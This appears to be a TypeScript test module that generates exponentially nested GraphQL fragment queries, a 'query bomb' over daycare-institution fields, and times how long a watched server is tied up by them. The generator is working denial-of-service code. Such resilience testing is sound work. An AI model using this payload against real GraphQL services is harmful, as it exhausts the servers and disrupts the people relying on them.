import type { Target } from './target.ts';
import { loopOf, startWatched, timeOf } from './watched.ts';

/**
 * Fragments that each ask for the next one twice, to and fro between institutions and their units, in a list whose
 * length is a variable: 2, 4, 8 … times each unit.
 */
function bomb(turns: number): string {
  const names = Array.from({ length: turns + 1 }, (_, i) => `f${i}`);
  const step = (next: string) => `anvisningsenheder{daginstitution{...${next}}}`;
  const chain = names.slice(1).map((to, i) => `fragment ${names[i]} on Daginstitution{x:${step(to)}y:${step(to)}}`);
  const last = `fragment ${names.at(-1)} on Daginstitution{nummer navn}`;
  return `query($n:Int){daginstitutioner(first:$n){nodes{...f0}}}${chain.join('')}${last}`;
}

/** Asks what takes a few hundred bytes to write, and says how long the server was kept by it. */
export async function attack(target: Target): Promise<void> {
  const attacked = await startWatched(target, { SAMPLE: 'full' });
  await timeOf(attacked, '{ helloWorld }');
  await loopOf(attacked);
  for (const turns of [1, 2, 3, 4]) {
    const query = bomb(turns);
    const answer = await timeOf(attacked, query, { n: 1000 });
    console.log(`${query.length} bytes, ${turns} turns: ${answer}; ${await loopOf(attacked)}`);
  }
  await attacked.stop();
}
